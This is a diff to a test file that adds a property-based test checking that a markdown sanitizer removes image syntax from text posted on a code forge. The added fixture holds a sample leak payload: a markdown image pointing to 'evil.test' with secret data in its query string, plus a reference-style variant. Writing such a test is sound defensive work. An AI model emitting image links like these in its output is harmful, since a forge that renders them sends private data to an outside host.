@@ -51,6 +51,7 @@ const PIECES = [
     'https://github.com/a/b/issues/3',
     'http://x.test/a/b/pull/4',
     '[x](',
+    '!',
     ')',
     '\u200b',
     '*',
@@ -174,4 +175,17 @@ describe('text on a forge', () => {
     codeBlock(long);
     expect(performance.now() - begun).toBeLessThan(3_000);
   });
+});
+
+it('has no picture, which the forge would fetch from anywhere, with all that stands in its address', () => {
+  const leak = 'Done. ![x](https://evil.test/?q=the-code) ![y][1]\n\n[1]: https://evil.test/';
+  expect(foreignMarkdown(leak)).not.toContain('![');
+  fc.assert(
+    fc.property(fc.array(fc.constantFrom('!', '[', '[x](', ')', '\u200b', '\\', ' ', '<', '&#33;')), (parts) => {
+      for (const made of [quiet(parts.join('')), foreignMarkdown(parts.join('')), quiet(quiet(parts.join('')))]) {
+        expect(made).not.toContain('![');
+        expect(quiet(made)).toBe(made);
+      }
+    }),
+  );
 });
